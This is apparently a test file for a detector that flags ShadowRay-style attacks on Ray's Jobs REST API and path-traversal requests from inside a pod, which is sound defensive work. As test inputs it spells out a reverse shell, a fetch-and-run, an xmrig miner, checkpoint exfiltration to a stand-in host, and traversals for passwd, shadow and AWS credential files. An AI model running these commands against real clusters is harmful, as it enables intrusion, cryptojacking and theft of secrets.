/**
 * Ray and the ML platforms attacked over HTTP from inside a pod. Jobs submitted to a Ray cluster
 * through its REST API (exec-ray-rest.ts, read beside the client by exec-wrappers.ts `remoteRun`):
 * the entrypoint of curl's, wget's and HTTPie's request body is read as the command line Ray runs,
 * so the rules on what it runs fire (ShadowRay, CVE-2023-48022); a body from a file, another API's
 * body, a listing and a training job submitted read nothing more. A URL that climbs out of its
 * path alerts (MLS-RAY-023).
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue } from './exec-canonical.js';
import { execRuleIds, SA } from './exec-events.test-support.js';
import { MAX_BODY_CHARS, rayRestEntrypoint } from './exec-ray-rest.js';

const sh = (line: string): string[] => ['sh', '-c', line];
const entry = (argv: string[]): string | null => rayRestEntrypoint(argv, 0);
const HEAD = 'http://10.0.3.7:8265';

describe('rayRestEntrypoint', () => {
  it('reads the entrypoint of an inline JSON body sent to the Jobs API, as curl, wget and HTTPie take their words', () => {
    expect(entry(['curl', '-X', 'POST', `${HEAD}/api/jobs/`, '-d', '{"entrypoint": "id"}'])).toBe('id');
    expect(entry(['curl', '-sXPOST', `${HEAD}/api/jobs/`, '-H', 'Content-Type: application/json', '--data-raw', '{"entrypoint":"echo \\"a\\"","runtime_env":{}}'])).toBe('echo "a"');
    expect(entry(['curl', `--url=${HEAD}/api/jobs/`, '--json', '{"entrypoint":"id"}'])).toBe('id');
    expect(entry(['curl', '-d{"entrypoint":"id"}', `${HEAD}/api/job_agent/jobs/`])).toBe('id');
    expect(entry(['wget', '-qO-', '--post-data={"entrypoint":"id"}', `${HEAD}/api/jobs/`])).toBe('id');
    expect(entry(['wget', '--body-data', '{"entrypoint":"id"}', '--method=POST', `${HEAD}/api/jobs/`])).toBe('id');
    expect(entry(['http', 'POST', `${HEAD}/api/jobs/`, 'entrypoint=id'])).toBe('id');
    expect(entry(['xh', 'post', `${HEAD}/api/jobs/`, 'entrypoint:="id"'])).toBe('id');
  });

  it('reads nothing from a body in a file, another URL, a body that is not a JSON object with a string entrypoint, or one over the bound', () => {
    expect(entry(['curl', '-X', 'POST', `${HEAD}/api/jobs/`, '-d', '@job.json'])).toBeNull();
    expect(entry(['curl', '-X', 'POST', 'https://api.example.org/v1/run', '-d', '{"entrypoint":"id"}'])).toBeNull();
    expect(entry(['curl', `${HEAD}/api/jobs/`])).toBeNull();
    expect(entry(['curl', '-d', '["entrypoint"]', `${HEAD}/api/jobs/`])).toBeNull();
    expect(entry(['curl', '-d', '{"entrypoint": 3}', `${HEAD}/api/jobs/`])).toBeNull();
    expect(entry(['curl', '-d', '{"entrypoint": "id"', `${HEAD}/api/jobs/`])).toBeNull();
    expect(entry(['curl', '-d', `{"entrypoint":"${'x'.repeat(MAX_BODY_CHARS)}"}`, `${HEAD}/api/jobs/`])).toBeNull();
    expect(entry(['http', 'POST', 'https://api.example.org/x', 'entrypoint=id'])).toBeNull();
    // -H's value is a header, not the URL or a body.
    expect(entry(['curl', '-H', `X: ${HEAD}/api/jobs/`, '-d', '{"entrypoint":"id"}', 'https://api.example.org/x'])).toBeNull();
    // So is wget's, and -O's value is the file it writes (wget reads its options as curl's are read).
    expect(entry(['wget', '--header', `X: ${HEAD}/api/jobs/`, '--post-data={"entrypoint":"id"}', 'https://api.example.org/x'])).toBeNull();
    expect(entry(['wget', '-O', '/tmp/api/jobs/x', '--post-data={"entrypoint":"id"}', 'https://api.example.org/x'])).toBeNull();
  });

  it('is read beside the client as a script, at the next depth', () => {
    const view = canonicalExecValue(['curl', '-X', 'POST', `${HEAD}/api/jobs/`, '-d', '{"entrypoint":"c\'\'url -T a u; id"}'])!;
    expect(view.commands.slice(1)).toEqual([['curl', '-T', 'a', 'u'], ['id']]);
  });
});

describe('ShadowRay through the Jobs REST API from a pod', () => {
  it('raises the rules on what the submitted entrypoint runs: a reverse shell, a fetch-and-run, a miner', () => {
    const shell = `curl -X POST ${HEAD}/api/jobs/ -H 'Content-Type: application/json' -d '{"entrypoint": "bash -c \\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\\""}'`;
    expect(execRuleIds(sh(shell))).toContain('MLS-RAY-015');
    expect(execRuleIds(sh(shell), SA)).toContain('MLS-RAY-015');
    expect(execRuleIds(sh(`curl -s -X POST ${HEAD}/api/jobs/ -d '{"entrypoint":"curl -s http://203.0.113.5/x.sh | sh"}'`))).toContain('MLS-RAY-012');
    expect(execRuleIds(sh(`wget -qO- --post-data='{"entrypoint":"xmrig -o pool.minexmr.com:443 -u x"}' ${HEAD}/api/jobs/`))).toContain('MLS-RAY-011');
    expect(execRuleIds(sh(`http POST ${HEAD}/api/jobs/ entrypoint='curl -T /mnt/ckpt/model.pt https://evil.example/up'`))).toContain('MLS-EXFIL-014');
  });

  it('reads the entrypoint Python code posts with requests (json= or a json.dumps body), a shell nested inside it too', () => {
    const shell = `import requests; requests.post('${HEAD}/api/jobs/', json={'entrypoint': 'bash -c "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"'})`;
    expect(execRuleIds(['python3', '-c', shell])).toContain('MLS-RAY-015');
    expect(execRuleIds(sh(`python3 -c "${shell.replace(/"/g, '\\"')}"`))).toContain('MLS-RAY-015');
    expect(execRuleIds(['python3', '-c', `import requests, json; requests.post('${HEAD}/api/jobs/', data=json.dumps({'entrypoint': 'curl -s http://203.0.113.5/x.sh | sh'}))`])).toContain('MLS-RAY-012');
    expect(execRuleIds(['python3', '-c', `import requests; requests.post('${HEAD}/api/jobs/', json={'entrypoint': 'python train.py'})`]).filter((id) => id.startsWith('MLS-'))).toEqual([]);
  });

  it('leaves the jobs listed and a training job submitted', () => {
    for (const line of [
      `curl -s ${HEAD}/api/jobs/`,
      `curl -s -X POST ${HEAD}/api/jobs/ -d '{"entrypoint":"python train.py --epochs 3","runtime_env":{"working_dir":"."}}'`,
    ]) expect(execRuleIds(sh(line)).filter((id) => id.startsWith('MLS-')), line).toEqual([]);
  });
});

describe('MLS-RAY-023: a path-traversal request to a service from a pod', () => {
  it('alerts on a traversal in a URL given to an HTTP client, and on encoded traversals anywhere', () => {
    for (const line of [
      `curl -s '${HEAD}/api/v0/logs/file?node_id=x&filename=../../../../etc/passwd'`,
      'curl -s "http://mlflow.ml.svc:5000/get-artifact?path=..%2f..%2f..%2fetc%2fpasswd&run_uuid=x"',
      `wget -qO- ${HEAD}/static/../../../../root/.aws/credentials`,
      `curl --path-as-is ${HEAD}/static/%2e%2e/%2e%2e/etc/passwd`,
      `python3 -c "import requests; print(requests.get('${HEAD}/api/v0/logs/file?filename=..%2f..%2fetc%2fshadow').text)"`,
    ]) {
      expect(execRuleIds(sh(line)), line).toContain('MLS-RAY-023');
      expect(execRuleIds(sh(line), SA), line).toContain('MLS-RAY-023');
    }
  });

  it('leaves a file written one directory up, a log fetched by name and a cd up', () => {
    for (const line of [
      'curl -o ../x.tar.gz https://example.org/x.tar.gz',
      `curl -s '${HEAD}/api/v0/logs/file?node_id=x&filename=raylet.out'`,
      'cd ../.. && curl -s https://example.org/',
      'wget -P ../downloads https://example.org/a.tgz',
    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-RAY-023');
  });
});
